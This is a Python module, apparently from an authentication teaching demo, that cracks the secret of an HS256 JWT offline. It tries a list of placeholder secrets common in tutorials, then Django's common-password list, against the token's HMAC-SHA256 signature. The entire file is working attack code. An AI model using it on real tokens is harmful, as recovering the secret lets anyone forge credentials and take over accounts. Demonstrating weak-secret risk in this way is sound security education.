"""Guessing the secret of an HS256 token from the token alone: nobody is asked, nothing is noticed."""

import gzip
import hmac
from collections.abc import Iterator
from dataclasses import dataclass

from django.contrib.auth.password_validation import CommonPasswordValidator

from authdemo.basics import base64url

SAMPLES = (  # what tutorials and templates have where a secret belongs
    "secret", "your-256-bit-secret", "your_secret_key", "your-secret-key", "supersecret", "changeme",
    "jwt_secret", "mysecretkey", "keyboard cat", "shhhhh", "my-32-character-ultra-secure-and-ultra-long-secret",
    "secret_key", "your_jwt_secret", "a-string-secret-at-least-256-bits-long", "JWT_SECRET", "topsecret", "test",
    "development", "SECRET_KEY",
)  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """What came of it: the secret, if it was found, and how many were tried."""

    found: str | None
    tried: int


def words() -> Iterator[str]:
    """The samples, and then the common passwords that Django ships: some twenty thousand."""
    yield from SAMPLES
    with gzip.open(CommonPasswordValidator().DEFAULT_PASSWORD_LIST_PATH, "rt", encoding="utf-8") as passwords:
        yield from (line.strip() for line in passwords)


def attack(token: str) -> Attack:
    """Try every word on the token's signature (HMAC-SHA256; RFC 7518, 3.2)."""
    signed, _, signature = token.rpartition(".")
    wanted = base64url.decode(signature)
    message, tried = signed.encode(), 0
    for word in words():
        tried += 1
        if hmac.digest(word.encode(), message, "sha256") == wanted:
            return Attack(word, tried)
    return Attack(None, tried)
